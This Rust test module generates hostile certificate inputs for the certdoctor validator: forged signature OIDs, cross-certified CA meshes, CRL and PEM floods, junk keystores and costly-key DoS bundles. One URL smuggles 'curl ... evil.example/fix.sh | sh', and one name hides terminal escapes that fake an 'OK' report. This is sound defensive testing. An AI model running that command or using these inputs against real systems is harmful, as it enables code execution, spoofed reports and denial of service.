//! Inputs built to hurt, generated (never checked in): each reproduces one
//! item of the security review at a size chosen by the caller, small for
//! the regression tests and up to the 8 MiB limit for the benchmark
//! (`benches/hostile.rs`).
#![allow(dead_code)]

use rcgen::{
    BasicConstraints, CertificateParams, CertificateRevocationListParams, CustomExtension, DnType, IsCa,
    Issuer, KeyIdMethod, KeyPair, SerialNumber,
};

use super::der::{oid, sequence, tlv, unsigned_integer};

/// A generated attack: its inputs and the moment to judge them at.
pub struct Attack {
    pub name: &'static str,
    pub inputs: Vec<certdoctor::Input>,
    pub at: &'static str,
    /// Trust only the user's roots (none here): public roots stay on.
    pub public_roots: bool,
}

fn input(name: &str, bytes: Vec<u8>) -> certdoctor::Input {
    certdoctor::Input::new(name, bytes)
}

fn ca(name: &str) -> CertificateParams {
    let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
    params.distinguished_name.push(DnType::CommonName, name);
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.not_before = rcgen::date_time_ymd(2024, 1, 1);
    params.not_after = rcgen::date_time_ymd(2034, 1, 1);
    params
}

fn leaf_params(name: &str) -> CertificateParams {
    let mut params = CertificateParams::new(vec![name.to_string()]).unwrap();
    params.distinguished_name.push(DnType::CommonName, name);
    params.not_before = rcgen::date_time_ymd(2025, 1, 1);
    params.not_after = rcgen::date_time_ymd(2025, 12, 1);
    params
}

/// Case 1: A leaf that names a real public intermediate (Amazon RSA 2048 M03) as
/// its issuer, with a signature algorithm certdoctor cannot check: the
/// real leaf with its signature OID swapped for `algorithm` (9 bytes, the
/// length of sha256WithRSAEncryption's), given with the real intermediate.
pub fn forged_leaf(corpus: &std::path::Path, algorithm: [u8; 9]) -> Attack {
    let amazon = corpus.join("rustls-webpki/tests/amazon");
    let mut leaf = std::fs::read(amazon.join("valid.rootca1.demo.amazontrust.com.cer")).unwrap();
    let sha256_rsa = [0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b];
    let mut at = 0;
    while let Some(found) = leaf[at..].windows(9).position(|window| window == sha256_rsa) {
        let start = at + found;
        leaf[start..start + 9].copy_from_slice(&algorithm);
        at = start + 9;
    }
    let intermediate = std::fs::read(amazon.join("r2m03.cer")).unwrap();
    Attack {
        name: "forged leaf under a public intermediate",
        inputs: vec![input("leaf.cer", leaf), input("r2m03.cer", intermediate)],
        at: "2025-02-23T10:00:00Z",
        public_roots: true,
    }
}

/// ECDSA with SHA3-256 (2.16.840.1.101.3.4.3.10).
pub const ECDSA_SHA3_256: [u8; 9] = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x03, 0x0a];
/// An OID nobody assigned (1.2.840.113549.1.1.127).
pub const UNKNOWN_ALGORITHM: [u8; 9] = [0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x7f];

/// Case 2: Two groups of `n` cross-certified CAs: every "Ping CA" key certified
/// by every "Pong CA" key and the reverse, and a leaf under one Ping key.
/// Every path up is valid and none ends anywhere.
pub fn cross_certified(n: usize) -> Attack {
    let ping: Vec<KeyPair> = (0..n).map(|_| KeyPair::generate().unwrap()).collect();
    let pong: Vec<KeyPair> = (0..n).map(|_| KeyPair::generate().unwrap()).collect();
    let mut pem = String::new();
    let leaf = leaf_params("ping.example")
        .signed_by(&KeyPair::generate().unwrap(), &Issuer::new(ca("Ping CA"), &ping[0]))
        .unwrap();
    pem.push_str(&leaf.pem());
    for ping_key in &ping {
        for pong_key in &pong {
            pem.push_str(
                &ca("Ping CA").signed_by(ping_key, &Issuer::new(ca("Pong CA"), pong_key)).unwrap().pem(),
            );
            pem.push_str(
                &ca("Pong CA").signed_by(pong_key, &Issuer::new(ca("Ping CA"), ping_key)).unwrap().pem(),
            );
        }
    }
    Attack {
        name: "cross-certified CAs",
        inputs: vec![input("mesh.pem", pem.into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// Case 3: `issuers` CAs of one name, a leaf under one of them, and `crls` CRLs
/// naming that issuer, each signed by a key nobody certified.
pub fn crl_flood(issuers: usize, crls: usize) -> Attack {
    let keys: Vec<KeyPair> = (0..issuers).map(|_| KeyPair::generate().unwrap()).collect();
    let mut pem = String::new();
    let leaf = leaf_params("crl.example")
        .signed_by(&KeyPair::generate().unwrap(), &Issuer::new(ca("CRL CA"), &keys[0]))
        .unwrap();
    pem.push_str(&leaf.pem());
    for key in &keys {
        pem.push_str(&ca("CRL CA").self_signed(key).unwrap().pem());
    }
    let mut crl_pem = String::new();
    for number in 0..crls {
        let signer = KeyPair::generate().unwrap();
        let crl = CertificateRevocationListParams {
            this_update: rcgen::date_time_ymd(2025, 5, 1),
            next_update: rcgen::date_time_ymd(2025, 7, 1),
            crl_number: SerialNumber::from(number as u64 + 1),
            issuing_distribution_point: None,
            revoked_certs: Vec::new(),
            key_identifier_method: KeyIdMethod::Sha256,
        };
        crl_pem.push_str(&crl.signed_by(&Issuer::new(ca("CRL CA"), &signer)).unwrap().pem().unwrap());
    }
    Attack {
        name: "CRLs against many issuers of one name",
        inputs: vec![input("issuers.pem", pem.into_bytes()), input("crls.pem", crl_pem.into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// Case 4: `begins` BEGIN lines with no END, then dashes up to `bytes`.
pub fn pem_flood(begins: usize, bytes: usize) -> Attack {
    let mut text = "-----BEGIN CERTIFICATE-----\n".repeat(begins).into_bytes();
    text.resize(bytes.max(text.len()), b'-');
    Attack {
        name: "BEGIN lines and dashes",
        inputs: vec![input("flood.pem", text)],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// A certificate with a garbage signature (nothing checks it before the
/// work under test): `subject_rdns` and `extensions` as given.
fn crafted_certificate(subject_rdns: &[Vec<u8>], extensions: &[Vec<u8>]) -> Vec<u8> {
    let key = KeyPair::generate().unwrap();
    let spki = rcgen::PublicKeyData::subject_public_key_info(&key);
    let algorithm = sequence(&[&oid("1.2.840.10045.4.3.2")]);
    let name = |cn: &str| sequence(&[&tlv(0x31, &sequence(&[&oid("2.5.4.3"), &tlv(0x0c, cn.as_bytes())]))]);
    let validity = sequence(&[&tlv(0x17, b"250101000000Z"), &tlv(0x17, b"251201000000Z")]);
    let subject = tlv(0x30, &subject_rdns.concat());
    let extension_list: Vec<&[u8]> = extensions.iter().map(Vec::as_slice).collect();
    let tbs = sequence(&[
        &tlv(0xa0, &unsigned_integer(&[2])),
        &unsigned_integer(&[0x10, 0x01]),
        &algorithm,
        &name("Crafted Issuer"),
        &validity,
        &subject,
        &spki,
        &tlv(0xa3, &sequence(&extension_list)),
    ]);
    sequence(&[&tbs, &algorithm, &tlv(0x03, &[0, 0x30, 0x06, 0x02, 0x01, 0x01, 0x02, 0x01, 0x01])])
}

fn pem(label: &str, der: &[u8]) -> String {
    super::to_pem(label, der)
}

/// 5a. A leaf with `count` common names and `count` SAN DNS names, none the
/// same: every CN is looked up among the SAN entries.
pub fn names_against_names(count: usize) -> Attack {
    let rdn = |cn: String| tlv(0x31, &sequence(&[&oid("2.5.4.3"), &tlv(0x0c, cn.as_bytes())]));
    let subject: Vec<Vec<u8>> = (0..count).map(|n| rdn(format!("cn{n}.example"))).collect();
    let names: Vec<Vec<u8>> = (0..count).map(|n| tlv(0x82, format!("san{n}.example").as_bytes())).collect();
    let san = sequence(&[
        &oid("2.5.29.17"),
        &tlv(0x04, &sequence(&names.iter().map(Vec::as_slice).collect::<Vec<_>>())),
    ]);
    let certificate = crafted_certificate(&subject, &[san]);
    Attack {
        name: "common names against SAN entries",
        inputs: vec![input("names.pem", pem("CERTIFICATE", &certificate).into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// 5b. A leaf with `count` copies of one extension.
pub fn duplicate_extensions(count: usize) -> Attack {
    let extension = sequence(&[&oid("1.3.6.1.4.1.55555.1"), &tlv(0x04, &[0x05, 0x00])]);
    let extensions = vec![extension; count];
    let rdn = tlv(0x31, &sequence(&[&oid("2.5.4.3"), &tlv(0x0c, b"dup.example")]));
    let certificate = crafted_certificate(&[rdn], &extensions);
    Attack {
        name: "one extension many times",
        inputs: vec![input("dup.pem", pem("CERTIFICATE", &certificate).into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// 5c. A CA excluding `count` rfc822Name subtrees over a leaf with `count`
/// rfc822Name SAN entries; the CA is the user's root.
pub fn kinds_against_kinds(count: usize) -> (Attack, Vec<u8>) {
    let root_key = KeyPair::generate().unwrap();
    let mut root = ca("Kind Root");
    let subtrees: Vec<Vec<u8>> =
        (0..count).map(|n| sequence(&[&tlv(0x81, format!("n{n}@example.org").as_bytes())])).collect();
    // nameConstraints { excludedSubtrees [1] }
    let constraints = sequence(&[&tlv(0xa1, &subtrees.concat())]);
    let mut extension = CustomExtension::from_oid_content(&[2, 5, 29, 30], constraints);
    extension.set_criticality(true);
    root.custom_extensions.push(extension);
    let root = rcgen::CertifiedIssuer::self_signed(root, root_key).unwrap();
    let mut leaf = leaf_params("kinds.example");
    let emails: Vec<Vec<u8>> =
        (0..count).map(|n| tlv(0x81, format!("m{n}@example.com").as_bytes())).collect();
    let mut names = vec![tlv(0x82, b"kinds.example")];
    names.extend(emails);
    leaf.subject_alt_names.clear();
    leaf.custom_extensions.push(CustomExtension::from_oid_content(
        &[2, 5, 29, 17],
        sequence(&names.iter().map(Vec::as_slice).collect::<Vec<_>>()),
    ));
    let leaf = leaf.signed_by(&KeyPair::generate().unwrap(), &root).unwrap();
    let attack = Attack {
        name: "name kinds against excluded kinds",
        inputs: vec![input("kinds.pem", leaf.pem().into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    };
    (attack, root.pem().into_bytes())
}

/// 6a. A PKCS#7 bundle of `count` empty certificates.
pub fn empty_certificates(count: usize) -> Attack {
    let certificates = [0x30u8, 0x00].repeat(count);
    let signed_data = sequence(&[
        &unsigned_integer(&[1]),
        &tlv(0x31, &[]),
        &sequence(&[&oid("1.2.840.113549.1.7.1")]),
        &tlv(0xa0, &certificates),
        &tlv(0x31, &[]),
    ]);
    let content_info = sequence(&[&oid("1.2.840.113549.1.7.2"), &tlv(0xa0, &signed_data)]);
    Attack {
        name: "PKCS#7 of empty certificates",
        inputs: vec![input("empty.p7b", content_info)],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// 6b. A JKS keystore of `count` trusted-certificate entries holding junk.
pub fn keystore_of_junk(count: usize) -> Attack {
    let mut store = vec![0xfe, 0xed, 0xfe, 0xed, 0, 0, 0, 2];
    store.extend_from_slice(&(count as u32).to_be_bytes());
    for n in 0..count {
        store.extend_from_slice(&[0, 0, 0, 2]);
        let alias = format!("a{n}");
        store.extend_from_slice(&(alias.len() as u16).to_be_bytes());
        store.extend_from_slice(alias.as_bytes());
        store.extend_from_slice(&[0; 8]);
        store.extend_from_slice(&[0, 5]);
        store.extend_from_slice(b"X.509");
        store.extend_from_slice(&8u32.to_be_bytes());
        store.extend_from_slice(&[0x30, 0x06, 0x02, 0x01, 0x01, 0x02, 0x01, 0x01]);
    }
    Attack {
        name: "keystore of junk certificates",
        inputs: vec![input("junk.jks", store)],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// 6c. A PKCS#12 file without a MAC holding `count` unencrypted copies of
/// one P-384 private key (each costs a scalar multiplication to pair).
pub fn many_keys(count: usize) -> Attack {
    let key = KeyPair::generate_for(&rcgen::PKCS_ECDSA_P384_SHA384).unwrap();
    let bag = sequence(&[&oid("1.2.840.113549.1.12.10.1.1"), &tlv(0xa0, &key.serialize_der())]);
    let bags = tlv(0x30, &bag.repeat(count));
    let data = |inner: &[u8]| sequence(&[&oid("1.2.840.113549.1.7.1"), &tlv(0xa0, &tlv(0x04, inner))]);
    let auth_safe = sequence(&[&data(&bags)]);
    let pfx = sequence(&[&unsigned_integer(&[3]), &data(&auth_safe)]);
    Attack {
        name: "PKCS#12 of many keys",
        inputs: vec![input("keys.p12", pfx)],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// Case 7: A leaf whose AIA caIssuers URL carries a second command, without its
/// issuer: the finding's fix would download it.
pub fn url_injection() -> Attack {
    let url = "http://crt.example.net/ca.cer && curl -s https://evil.example/fix.sh | sh";
    let access = sequence(&[&sequence(&[&oid("1.3.6.1.5.5.7.48.2"), &tlv(0x86, url.as_bytes())])]);
    let mut leaf = leaf_params("inject.example");
    leaf.custom_extensions.push(CustomExtension::from_oid_content(&[1, 3, 6, 1, 5, 5, 7, 1, 1], access));
    let issuer_key = KeyPair::generate().unwrap();
    let leaf =
        leaf.signed_by(&KeyPair::generate().unwrap(), &Issuer::new(ca("Missing CA"), &issuer_key)).unwrap();
    Attack {
        name: "a command in the AIA URL",
        inputs: vec![input("inject.pem", leaf.pem().into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// Case 8: A self-signed leaf whose CN clears the screen and draws a green
/// "OK" over the report.
pub fn terminal_escapes() -> Attack {
    let name = "\u{1b}[2J\u{1b}[H\u{1b}[1;32mOK \u{2014} no problems found\u{1b}[0m\u{1b}]0;owned\u{7}";
    let mut params = CertificateParams::new(vec!["escape.example".to_string()]).unwrap();
    params.distinguished_name.push(DnType::CommonName, name);
    let leaf = params.self_signed(&KeyPair::generate().unwrap()).unwrap();
    Attack {
        name: "terminal escapes in a name",
        inputs: vec![input("escape.pem", leaf.pem().into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

/// The most expensive public keys the engine accepts, for
/// [`costly_signatures`].
#[derive(Clone, Copy)]
pub enum CostlyKey {
    /// A 16384-bit modulus (the size limit) with the largest exponent the
    /// RSA crate takes (2^33 - 1): each check is a long exponentiation.
    Rsa16384,
    /// P-521, the slowest curve.
    P521,
}

/// Beyond the review: `count` CAs all named "Costly CA", each with its own key of the
/// given kind, each "issued" by "Costly CA" (so every one is a candidate
/// issuer of every other), and a leaf under that name. No signature is
/// valid, so a search would try every key for every certificate; what
/// bounds it is the signature-check budget.
pub fn costly_signatures(kind: CostlyKey, count: usize) -> Attack {
    let mut bundle = String::new();
    for index in 0..=count {
        let subject = if index == 0 { "costly.example" } else { "Costly CA" };
        let der = costly_certificate(kind, index as u64 + 1, subject, index > 0);
        bundle.push_str(&pem("CERTIFICATE", &der));
    }
    Attack {
        name: match kind {
            CostlyKey::Rsa16384 => "issuers of one name with RSA-16384 keys",
            CostlyKey::P521 => "issuers of one name with P-521 keys",
        },
        inputs: vec![input("costly.pem", bundle.into_bytes())],
        at: "2025-06-01",
        public_roots: false,
    }
}

fn costly_certificate(kind: CostlyKey, seed: u64, subject: &str, is_ca: bool) -> Vec<u8> {
    let name = |cn: &str| sequence(&[&tlv(0x31, &sequence(&[&oid("2.5.4.3"), &tlv(0x0c, cn.as_bytes())]))]);
    let (algorithm, spki, signature) = match kind {
        CostlyKey::Rsa16384 => {
            // An odd 16384-bit modulus (no factors needed: only the public
            // operation runs) and a signature just below it.
            let mut modulus: Vec<u8> = (0..2048u64)
                .map(|i| (seed.wrapping_mul(2654435761).wrapping_add(i * 97) % 251) as u8)
                .collect();
            modulus[0] = 0xc0;
            modulus[2047] |= 1;
            let mut signature = modulus.clone();
            signature[0] = 0x40;
            let key =
                sequence(&[&unsigned_integer(&modulus), &unsigned_integer(&[0x01, 0xff, 0xff, 0xff, 0xff])]);
            let spki = sequence(&[
                &sequence(&[&oid("1.2.840.113549.1.1.1"), &[0x05, 0x00]]),
                &tlv(0x03, &[&[0u8][..], &key].concat()),
            ]);
            (sequence(&[&oid("1.2.840.113549.1.1.13"), &[0x05, 0x00]]), spki, signature)
        }
        CostlyKey::P521 => {
            use p521::elliptic_curve::sec1::ToSec1Point;
            let point = (p521::ProjectivePoint::GENERATOR * p521::Scalar::from(seed + 1000)).to_affine();
            let spki = sequence(&[
                &sequence(&[&oid("1.2.840.10045.2.1"), &oid("1.3.132.0.35")]),
                &tlv(0x03, &[&[0u8][..], point.to_sec1_point(false).as_bytes()].concat()),
            ]);
            // r and s in range, so the check runs to the end and fails.
            let signature = sequence(&[&unsigned_integer(&[0x12; 64]), &unsigned_integer(&[0x34; 64])]);
            (sequence(&[&oid("1.2.840.10045.4.3.4")]), spki, signature)
        }
    };
    let constraints =
        sequence(&[&oid("2.5.29.19"), &tlv(0x01, &[0xff]), &tlv(0x04, &sequence(&[&tlv(0x01, &[0xff])]))]);
    let san = sequence(&[&oid("2.5.29.17"), &tlv(0x04, &sequence(&[&tlv(0x82, subject.as_bytes())]))]);
    let extension = if is_ca { constraints } else { san };
    let tbs = sequence(&[
        &tlv(0xa0, &unsigned_integer(&[2])),
        &unsigned_integer(&seed.to_be_bytes()),
        &algorithm,
        &name("Costly CA"),
        &sequence(&[&tlv(0x17, b"250101000000Z"), &tlv(0x17, b"260101000000Z")]),
        &name(subject),
        &spki,
        &tlv(0xa3, &sequence(&[&extension])),
    ]);
    sequence(&[&tbs, &algorithm, &tlv(0x03, &[&[0u8][..], &signature].concat())])
}
